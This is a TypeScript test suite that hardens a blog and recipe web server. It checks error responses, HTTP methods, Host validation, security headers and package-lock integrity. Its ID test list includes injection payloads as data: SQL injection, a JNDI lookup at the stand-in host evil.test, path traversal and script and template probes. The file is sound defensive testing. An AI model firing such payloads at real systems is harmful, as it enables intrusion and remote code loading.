import { readFile, rename } from 'node:fs/promises';
import path from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { hostHeaders } from '#server/web/host-headers.ts';
import { mutations } from './support/mutations.ts';
import { POST } from './support/planted.ts';
import { type Ask, asking, askingAsAdmin, sendHead, sendRaw, statusOf } from './support/requests.ts';
import { sharedTarget, type Target } from './support/target.ts';

const codeRoot = path.resolve(import.meta.dirname, '../..');
const read = (name: string) => readFile(path.join(codeRoot, name), 'utf8');

let target: Target;
let admin: Ask;
beforeAll(async () => {
  target = sharedTarget();
  admin = await askingAsAdmin(target);
});

/** Checks that a response describes an error and reveals nothing else: no stack, no path, no token. */
async function expectPlain(answer: Response, status: number | number[]): Promise<void> {
  const text = await answer.text();
  expect([status].flat(), text.slice(0, 200)).toContain(answer.status);
  expect(answer.headers.get('content-type')).toBe('application/problem+json');
  expect(answer.headers.get('cache-control')).toContain('no-store');
  expect(JSON.parse(text)).toMatchObject({ status: answer.status, error: expect.any(String) as string });
  expect(text).not.toMatch(/ at \S+:\d|node_modules|\.ts:|fatal:|refs\/heads|ENOENT|SyntaxError|Unexpected token|__Host|eyJ/);
  for (const private_ of [target.root, target.data, codeRoot]) expect(text).not.toContain(private_);
}

test.for(['{', '', 'null', '[]', '"x"', '1', '{"title":', "{'title':1}", '\ufeff{}', '{"a":1}{"b":2}', 'NaN', '\0'])(
  '#78 the body %o is rejected with a sentence',
  async (body) => {
    for (const [method, place, { json }] of mutations()) {
      if (json === undefined) continue;
      // An empty update is valid and changes nothing.
      const answer = await admin(place, { method, body: new Blob([body]), headers: { 'content-type': 'application/json' } });
      if (answer.status !== 200) await expectPlain(answer, [400, 404]);
    }
    await expectPlain(
      await asking(target)('/api/auth/login', { body: new Blob([body]), headers: { 'content-type': 'application/json' } }),
      400,
    );
  },
);

test.for([
  '%ff',
  '%',
  '%E0%A4%A',
  '%00',
  '..%5c..',
  '\u{1F950}',
  'a b',
  '<script>',
  "'; DROP TABLE posts; --",
  '${jndi:ldap://evil.test/x}',
  '{{7*7}}',
  '%F0%9F%A5%90',
])('#78 the ID %s is rejected with a sentence', async (id) => {
  for (const list of [
    '/api/blog/posts',
    '/api/kitchen/recipes',
    '/api/kitchen/collections',
    '/api/content/post',
    '/api/admin/history/post',
    '/api/content',
  ])
    for (const ask of [admin, asking(target)]) await expectPlain(await ask(`${list}/${id}`), [400, 401, 404]);
  await expectPlain(await admin(`/api/blog/posts/${id}`, { method: 'DELETE' }), 404);
  await expectPlain(await asking(target)(`/api/${id}`), 404);
});

test('#78 a save without a repository fails with a sentence, and the next one succeeds', async () => {
  const [repository, away] = [path.join(target.root, '.git'), path.join(target.root, '.git-away')];
  const head = await target.head();
  await rename(repository, away);
  try {
    for (const [method, place, call] of [
      ['POST', '/api/blog/posts', { json: { ...POST, slug: 'locked' } }],
      ['PUT', '/api/blog/posts/draft-post', { json: { title: 'Mine' } }],
      ['DELETE', '/api/blog/posts/draft-post', {}],
    ] as const)
      await expectPlain(await admin(place, { method, ...call }), [500, 503]);
    expect((await asking(target)('/')).status).toBe(200);
  } finally {
    await rename(away, repository);
  }
  expect(await target.head()).toBe(head);
  expect((await admin('/api/blog/posts', { json: { ...POST, slug: 'locked' } })).status).toBe(201);
  expect((await admin('/api/blog/posts/locked', { method: 'DELETE' })).status).toBe(200);
});

describe('#80', () => {
  test.for([
    'TRACE',
    'TRACK',
    'CONNECT',
    'DEBUG',
    'PROPFIND',
    'MKCOL',
    'LOCK',
    'SEARCH',
    'PURGE',
    'PATCH',
    'OPTIONS',
    'QUERY',
    'get',
    'FOO',
  ])('the method %s is not allowed', async (method) => {
    for (const place of [
      '/',
      '/blog',
      '/admin',
      '/nowhere',
      '/api/blog/posts',
      '/api/auth/login',
      '/api/auth/verify',
      '/api/nowhere',
      '/build.json',
      '/uploads/x.jpg',
    ]) {
      const answer = await sendHead(target.address, method, place, [
        'X-Secret: planted',
        'Cookie: __Host-session=planted',
        'Content-Length: 0',
      ]);
      const expected = place === '/api/nowhere' ? [400, 404, 405] : [400, 405];
      // node:http closes a connection that requests a tunnel.
      if (method !== 'CONNECT') expect(expected, `${method} ${place}: ${answer.slice(0, 60)}`).toContain(statusOf(answer));
      else expect([null, 400, 405]).toContain(statusOf(answer));
      expect(answer).not.toContain('planted');
    }
  });

  test.for([
    '/_astro',
    '/_astro/',
    '/media',
    '/media/',
    '/uploads',
    '/uploads/',
    '/blog/',
    '/icons/',
    '/api',
    '/api/',
    '/.well-known/',
    '//',
    '/./',
  ])('nothing is listed at %s', async (place) => {
    const answer = await sendHead(target.address, 'GET', place);
    expect([200, 301, 404]).toContain(statusOf(answer));
    expect(answer).not.toMatch(/Index of|Directory listing|Parent Directory|href="\.\.\/?"/i);
    if (/_astro|media|uploads|icons/.test(place)) expect(answer).toMatch(/^HTTP\/1\.1 (?:404|301)/);
  });

  test('an invalid request is rejected with a sentence', async () => {
    for (const text of [
      '\r\n\r\n\r\n',
      'GET / HTTP/1.1\r\n\r\n',
      'GET\r\n\r\n',
      'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
      'GET / HTTP/1.1\r\nHost: x\r\nBad Header: 1\r\n\r\n',
      'GET / HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n',
      '\x16\x03\x01\x02\x00\x01\x00',
      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
      'GET * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
      'OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
    ]) {
      const answer = await sendRaw(target.address, text);
      expect(statusOf(answer) ?? 400, `${JSON.stringify(text)} ${answer.slice(0, 60)}`).toBeLessThan(500);
      expect(answer).not.toMatch(/ at \S+:\d|node_modules/);
    }
    expect((await asking(target)('/')).status).toBe(200);
  });

  test.each([['x:99999'], ['x:y'], ['999.1.1.1'], ['x/api'], ['[::1'], ['a', 'b']])(
    'the invalid host %s is rejected for every address',
    async (...hosts) => {
      for (const [method, place] of [
        ['GET', '/'],
        ['GET', '/api/blog/posts'],
        ['GET', '/build.json'],
        ['POST', '/api/auth/login'],
        ['DELETE', '/api/blog/posts/x'],
      ] as const) {
        const headers = [...hosts.map((host) => `Host: ${host}`), 'Origin: http://x:99999', 'Content-Length: 0'];
        const answer = await sendHead(target.address, method, place, headers);
        expect([method, place, statusOf(answer)]).toEqual([method, place, 400]);
        expect(answer).toMatch(/^content-type: text\/plain/im);
        expect(answer).toMatch(/^x-content-type-options: nosniff/im);
        expect(answer.split('\r\n\r\n')[1]).toMatch(/^[A-Z][^<{]*[Hh]ost[^<{]*\.$/);
      }
    },
  );

  test('an invalid range, condition or language causes no error', async () => {
    for (const headers of [
      { range: 'bytes=99999999-' },
      { range: 'bytes=-0' },
      { range: 'bytes=a-b' },
      { range: 'x' },
      { 'if-none-match': '\'"<>' },
      { 'if-modified-since': 'never' },
      { accept: '../../x' },
      { 'accept-encoding': 'x' },
      { 'content-type': '\u00ff' },
      { 'if-match': '"'.repeat(50) },
      { cookie: '=;=;__Host-session' },
    ])
      for (const place of ['/', '/api/blog/posts', '/favicon.svg', '/api/auth/verify']) {
        const answer = await asking(target)(place, { headers: headers });
        expect(answer.status, `${place} ${JSON.stringify(headers)}`).toBeLessThan(500);
      }
  });

  test.for([
    '/',
    '/blog',
    '/nowhere',
    '/admin',
    '/admin/cms',
    '/api/blog/posts',
    '/api/nowhere',
    '/api/auth/verify',
    '/favicon.svg',
    '/sitemap.xml',
    '/build.json',
    '/blog/',
  ])('the response at %s prevents content sniffing', async (place) => {
    const { headers } = await asking(target)(place);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('x-frame-options')).toBe('DENY');
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    expect(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
    expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(headers.get('strict-transport-security')).toMatch(/max-age=\d{8}/);
    const type = headers.get('content-type');
    if (type?.startsWith('text/html')) {
      const policy = /http-equiv="content-security-policy" content="([^"]*)"/i.exec(await (await asking(target)(place)).text())?.[1] ?? '';
      expect(policy).toMatch(/default-src 'none'/);
      expect(policy).toMatch(/object-src 'none'/);
      expect(policy).toMatch(/base-uri '(?:none|self)'/);
      expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|http:| \*/);
    }
  });

  test('the headers for hosts enforce https', async () => {
    const headers = await hostHeaders();
    expect(headers).toMatch(/Strict-Transport-Security: max-age=\d{8}/);
    // A sandboxed file may only have its own styles.
    const sandboxed = /^ {2}Content-Security-Policy: default-src 'none';(?!.*(?:script|connect|unsafe-eval)).*; sandbox$/gm;
    expect(headers.replace(sandboxed, '')).not.toMatch(/unsafe-inline|unsafe-eval|Access-Control-Allow-Origin:/);
  });
});

describe('#79 the packages', () => {
  interface Package {
    version?: string;
    resolved?: string;
    integrity?: string;
    link?: boolean;
    inBundle?: boolean;
  }

  interface Manifest {
    dependencies?: Record<string, string>;
    devDependencies?: Record<string, string>;
    optionalDependencies?: Record<string, string>;
    scripts?: Record<string, string>;
  }

  test.for(['', 'tools/observatory/'])('in %opackage-lock.json have a digest and come from a registry over https', async (folder) => {
    const { packages } = JSON.parse(await read(`${folder}package-lock.json`)) as { packages: Record<string, Package & Manifest> };
    const manifest = JSON.parse(await read(`${folder}package.json`)) as Manifest;
    for (const kind of ['dependencies', 'devDependencies', 'optionalDependencies'] as const)
      expect(packages['']?.[kind]).toEqual(manifest[kind]);
    const installed = Object.entries(packages).filter(([name]) => name !== '');
    expect(installed.length).toBeGreaterThan(100);
    for (const [name, { resolved, integrity, link, inBundle }] of installed) {
      // A package of this repository is a link to its folder.
      if (name.startsWith('packages/') || (link && resolved?.startsWith('packages/')) || inBundle) continue;
      expect([name, link]).toEqual([name, undefined]);
      expect([name, integrity]).toEqual([name, expect.stringMatching(/^sha512-/)]);
      // Omitted if the lock file should work with any registry.
      if (resolved !== undefined)
        expect([name, resolved]).toEqual([name, expect.stringMatching(/^https:\/\/registry\.npmjs\.org\/.*\.tgz$/)]);
    }
  });

  test.for(['', 'tools/observatory/'])('in %opackage.json are pinned to versions, and run no install scripts', async (folder) => {
    const { dependencies, devDependencies, optionalDependencies, scripts } = JSON.parse(await read(`${folder}package.json`)) as Manifest;
    for (const [name, version] of Object.entries({ ...dependencies, ...devDependencies, ...optionalDependencies }))
      expect([name, version]).toEqual([name, expect.stringMatching(/^\d+\.\d+\.\d+$/)]);
    expect(Object.keys(scripts ?? {}).filter((name) => /^(?:pre|post)?install$|^prepare$/.test(name))).toEqual([]);
    expect(await read('.npmrc')).toMatch(/^ignore-scripts=true$/m);
  });
});
